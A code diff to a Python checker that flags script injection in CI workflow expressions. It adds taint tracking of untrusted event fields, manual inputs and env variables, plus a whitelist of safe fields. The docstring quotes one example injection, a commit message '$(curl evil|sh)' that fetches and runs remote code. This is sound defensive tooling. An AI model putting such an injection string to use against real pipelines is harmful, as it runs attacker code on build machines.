@@ -5,22 +5,38 @@ runs, so an attacker who controls a commit message such as ``$(curl evil|sh)``
 controls the script. Passing the value through ``env:`` is safe: the shell
 expands ``"$MSG"`` as data, never as code.
 
-Contract: :func:`untrusted_paths` lists the dotted context paths treated as
-untrusted (``*`` matches any list element or property). It maps actionlint's
-``BuiltinUntrustedInputs`` (``github.event.*``) onto our ``event`` context,
-adds other free-text fields of GitHub, GitLab, Gitee and Codeup payloads (branch
-and ref names too, which actionlint trusts: a pusher picks them and they may
-hold ``$(...)``), and the ``git`` fields whose text the pusher chooses.
-:func:`untrusted_reads` tells which of them an expression reads, including
-reads of an enclosing object (``toJSON(event)``, ``event.commits``) and of
-anything below an untrusted value.
+The rule follows values, not a list of known paths: everything an event
+carries is untrusted unless it is one of the few values a sender cannot shape
+(:data:`TRUSTED_EVENT_FIELDS`: ids, numbers, SHAs, booleans, times, enumerations
+and names that the providers restrict to ``[A-Za-z0-9._-]``), and so is every
+manual-run input and every ``env`` variable whose value is built from them. A
+read counts wherever it sits in the expression: directly, inside ``join``,
+``format``, ``toJSON`` or ``fromJSON``, as an index (``env[git.branch]``) or
+through a filter (``event.commits.*.added``). Not followed: step outputs, which
+a script writes (pass them through ``env:`` when they may hold event text).
+
+Contract: :func:`untrusted_paths` lists the dotted context paths known to hold
+sender-chosen text (``*`` matches any list element or property): actionlint's
+``BuiltinUntrustedInputs`` (``github.event.*``) mapped onto our ``event``
+context, other free-text fields of GitHub, GitLab, Gitee and Codeup payloads
+(branch and ref names too, which actionlint trusts: a pusher picks them and
+they may hold ``$(...)``), and the ``git`` fields whose text the pusher
+chooses; they name, in the error, what an enclosing object holds.
+:func:`untrusted_reads` tells which reads of an expression are untrusted.
 """
 
 from __future__ import annotations
 
 import re
 
-__all__ = ["injection_message", "untrusted_paths", "untrusted_reads"]
+__all__ = [
+    "TRUSTED_EVENT_FIELDS",
+    "TRUSTED_GIT_FIELDS",
+    "injection_message",
+    "tainted_env",
+    "untrusted_paths",
+    "untrusted_reads",
+]
 
 # actionlint's BuiltinUntrustedInputs, github.event.* -> event.*
 _ACTIONLINT = (
@@ -121,6 +137,27 @@ _GIT = (
     "git.ref",
 )
 
+#: Last segments of ``event`` paths whose values a sender cannot shape into shell
+#: source: ids, counts, SHAs, flags, times, provider enumerations, URLs and names
+#: built from them (GitHub, GitLab, Gitee and Codeup allow only ``[A-Za-z0-9._-]``
+#: in user logins and repository paths).
+TRUSTED_EVENT_FIELDS: frozenset[str] = frozenset({
+    "id", "node_id", "iid", "number", "project_id", "target_project_id",
+    "source_project_id", "sha", "after", "before", "checkout_sha", "head_sha", "base_sha",
+    "size", "distinct_size", "total_commits_count", "additions", "deletions",
+    "changed_files", "forced", "created", "deleted", "private", "fork", "draft", "merged",
+    "locked", "distinct", "action", "object_kind", "event_name", "event_type", "state",
+    "merge_status", "visibility_level", "created_at", "updated_at", "pushed_at",
+    "merged_at", "closed_at", "timestamp", "login", "username", "full_name",
+    "path_with_namespace", "url", "html_url", "web_url", "clone_url", "ssh_url",
+    "git_http_url", "git_ssh_url", "http_url",
+})  # fmt: skip
+#: ``git`` fields that hold no sender-chosen text.
+TRUSTED_GIT_FIELDS: frozenset[str] = frozenset({
+    "provider", "event_name", "action", "commit", "before", "pr_number", "merged", "draft",
+    "clone_url", "repository", "repo_owner", "delivery_id",
+})  # fmt: skip
+
 _UNTRUSTED: tuple[str, ...] = _ACTIONLINT + _GITHUB_MORE + _GITLAB + _GITEE + _GIT
 _PATTERNS: tuple[tuple[str, ...], ...] = tuple(tuple(p.split(".")) for p in _UNTRUSTED)
 _NOT_NAME = re.compile(r"[^A-Za-z0-9_]+")
@@ -144,23 +181,70 @@ def _segments_match(read: tuple[str, ...], pattern: tuple[str, ...]) -> bool:
     return True
 
 
-def untrusted_reads(paths: list[str]) -> list[tuple[str, str]]:
-    """For each read path that reaches untrusted text: ``(path, an untrusted path it reaches)``.
+def untrusted_reads(
+    paths: list[str], tainted_env: frozenset[str] = frozenset()
+) -> list[tuple[str, str]]:
+    """For each read path that reaches untrusted text: ``(path, what it holds)``.
 
     ``paths`` are dotted context paths as :func:`scd_engine.expressions.referenced_paths`
-    returns them (``*`` for filters; numeric segments for literal indexes).
-    Property names compare case-insensitively, as the expression language does.
-    A read matches when it is an untrusted path, lies below one (``git.pusher.name``)
-    or contains one (``event``, ``event.head_commit``, ``event.*.body``).
+    returns them (``*`` for filters and computed indexes; numeric segments for
+    literal indexes). Property names compare case-insensitively, as the
+    expression language does. ``tainted_env`` holds the (lower-case) names of
+    ``env`` variables whose values read untrusted text. What a read holds is a
+    known untrusted path it is, lies below (``git.pusher.name``) or contains
+    (``event``, ``event.head_commit``, ``event.*.body``), else the read itself.
     """
     found: list[tuple[str, str]] = []
     for path in paths:
         read = tuple(path.lower().split("."))
-        for pattern, text in zip(_PATTERNS, _UNTRUSTED, strict=True):
-            if _segments_match(read, pattern):
-                found.append((path, text))
-                break
+        example = next(
+            (text for pattern, text in zip(_PATTERNS, _UNTRUSTED, strict=True)
+             if _segments_match(read, pattern)),
+            None,
+        )  # fmt: skip
+        if example is not None:
+            found.append((path, example))
+        elif _untrusted(read, tainted_env):
+            found.append((path, path.lower()))
     return found
+
+
+def _untrusted(read: tuple[str, ...], tainted_env: frozenset[str]) -> bool:
+    head, rest = read[0], read[1:]
+    if head == "inputs":
+        return True  # a manual run's caller types them
+    if head == "env":
+        # the whole context, or a computed name, may be any variable: a tainted one too
+        if not rest or rest[0] == "*":
+            return bool(tainted_env)
+        return rest[0] in tainted_env
+    if head == "git":
+        return not rest or rest[0] not in TRUSTED_GIT_FIELDS
+    if head == "event":
+        last = next((s for s in reversed(rest) if s != "*" and not s.isdigit()), None)
+        return last is None or last not in TRUSTED_EVENT_FIELDS
+    return False
+
+
+def tainted_env(env: object, inherited: frozenset[str] = frozenset()) -> frozenset[str]:
+    """``inherited`` plus the (lower-case) names in the ``env`` mapping ``env`` whose
+    values read untrusted text (or tainted variables); malformed entries are skipped."""
+    tainted = set(inherited)
+    if isinstance(env, dict):
+        for name, value in env.items():
+            if isinstance(value, str) and "${{" in value and _reads_untrusted(value, inherited):
+                tainted.add(str(name).lower())
+    return frozenset(tainted)
+
+
+def _reads_untrusted(text: str, inherited: frozenset[str]) -> bool:
+    from scd_engine.expressions import ExpressionError, find_expressions, referenced_paths
+
+    try:
+        paths = [p for _, _, e in find_expressions(text) for p in referenced_paths(e)]
+    except ExpressionError:
+        return False  # reported where the value is checked
+    return bool(untrusted_reads(paths, inherited))
 
 
 def injection_message(field: str, path: str, example: str, expression: str) -> str:
@@ -171,7 +255,7 @@ def injection_message(field: str, path: str, example: str, expression: str) -> s
     """
     last = next((s for s in reversed(path.split(".")) if s != "*" and not s.isdigit()), "VALUE")
     name = _SHORT.get(last, _NOT_NAME.sub("_", last).upper().strip("_") or "VALUE")
-    contains = "" if path.lower() == example else f" (it holds {example})"
+    contains = "" if path.lower() == example.lower() else f" (it holds {example})"
     use = f'"${name}"' if field == "run" else f"os.environ['{name}']"
     return (
         f"{field}: uses untrusted value {path}{contains} in ${{{{ }}}}; pass it through env "
